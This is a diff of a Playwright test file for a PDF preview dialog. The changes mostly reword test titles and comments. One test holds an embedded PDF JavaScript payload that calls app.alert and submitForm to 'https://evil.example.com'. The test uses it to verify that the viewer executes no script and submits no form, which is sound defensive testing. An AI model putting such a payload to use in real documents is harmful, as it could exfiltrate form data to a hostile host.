@@ -6,7 +6,7 @@ import { PreviewPage } from '../../fixtures/pages/preview-page.ts'
 const zoomed = (preview: PreviewPage) => preview.dialog.getByRole('combobox', { name: 'Zoom' })
 const pageNumber = (preview: PreviewPage) => preview.dialog.getByRole('textbox', { name: /^Page, of/ })
 
-test('a PDF: its text, its size, its pages, by mouse and by keyboard; the focus comes back', async ({ page }) => {
+test('a PDF shows text, size and pages by mouse and keyboard, and closing it returns the focus', async ({ page }) => {
   const preview = await PreviewPage.of(page, { 'Memo.pdf': textPdf(6, () => ['equity injection of ten percent']) })
   await preview.open('Memo.pdf')
   await expect(preview.pdfPage(1).getByText('Credit memorandum, page 1')).toBeAttached()
@@ -45,10 +45,10 @@ test('a PDF: its text, its size, its pages, by mouse and by keyboard; the focus 
   await preview.expectNothingExecuted()
 })
 
-test('a PDF of 300 pages shows its first page before the rest is read, and only the pages one looks at', async ({
+test('a PDF of 300 pages shows its first page before the rest is read, and renders only visible pages', async ({
   page,
 }) => {
-  // Beyond what comes in one piece, so that it is fetched in parts.
+  // Larger than a single range request, so that it is fetched in parts.
   const lines = Array.from({ length: 38 }, (_, line) => `${line}. ${'the borrower shall inject equity '.repeat(2)}`)
   const preview = await PreviewPage.of(page, {
     'Package.pdf': textPdf(300, (n) => [`Exhibit ${n} of the file`, ...lines]),
@@ -87,14 +87,14 @@ test('a PDF of 300 pages shows its first page before the rest is read, and only 
   await expect(status).toHaveText('249 of 300')
   await field.fill('nowhere to be found')
   await expect(status).toHaveText('Not found')
-  // First the search, then the preview.
+  // Escape closes the search first, then the preview.
   await page.keyboard.press('Escape')
   await expect(field).toBeHidden()
   await expect(preview.dialog).toBeVisible()
   await preview.expectNothingExecuted()
 })
 
-test('scanned pages are decoded, whatever the scanner wrote, and said to have no text', async ({ page }) => {
+test('scanned pages are decoded in every encoding scanners use, and are reported to have no text', async ({ page }) => {
   const filters: Scan[] = ['JBIG2Decode', 'JPXDecode', 'CCITTFaxDecode']
   const preview = await PreviewPage.of(
     page,
@@ -112,7 +112,7 @@ test('scanned pages are decoded, whatever the scanner wrote, and said to have no
   await preview.expectNothingExecuted()
 })
 
-test('nothing a PDF asks for is done: no script, no form, no program; links say where they lead', async ({ page }) => {
+test('a PDF can run no script, submit no form and start no program; links show their target', async ({ page }) => {
   const script = String.raw`/S/JavaScript/JS(app.alert\(1\); window.struck = 1; this.submitForm\('https://evil.example.com'\);)`
   const link = (number: number, action: string) =>
     `<</Type/Annot/Subtype/Link/Border[0 0 0]/Rect[72 ${600 - number * 40} 300 ${620 - number * 40}]${action}>>`
@@ -165,7 +165,7 @@ test('nothing a PDF asks for is done: no script, no form, no program; links say 
   await preview.expectNothingExecuted()
 })
 
-test('a damaged document, missing bytes and an address that ran out: the reason, and another try', async ({ page }) => {
+test('damaged documents, missing bytes and expired URLs show the reason and a retry', async ({ page }) => {
   const preview = await PreviewPage.of(page, { 'Memo.pdf': textPdf(1), 'Note.txt': 'Only words.' })
   let answer: number | null = 404
   await page.route('**/files/**', (route) => (answer === null ? route.continue() : route.fulfill({ status: answer })))
@@ -177,7 +177,7 @@ test('a damaged document, missing bytes and an address that ran out: the reason,
   await preview.button('Try again').click()
   await expect(preview.pdfPage(1).getByText('Credit memorandum')).toBeAttached()
 
-  // The address was asked for a while ago and has run out meanwhile: a new one is asked for.
+  // The signed URL has expired: a new one is requested.
   await preview.button('Next document').click()
   await expect(preview.dialog.getByText('Only words.')).toBeVisible()
   const asked: string[] = []
@@ -199,7 +199,7 @@ test('a damaged document, missing bytes and an address that ran out: the reason,
   await preview.expectNothingExecuted()
 })
 
-test('the preview is accessible, in the light and in the dark, with its help and its search open', async ({ page }) => {
+test('the preview is accessible in light and dark, with its help and its search open', async ({ page }) => {
   test.slow()
   const preview = await PreviewPage.of(page, { 'Memo.pdf': textPdf(2), 'Note.txt': 'words' })
   await page.emulateMedia({ colorScheme: 'light', reducedMotion: 'reduce' })
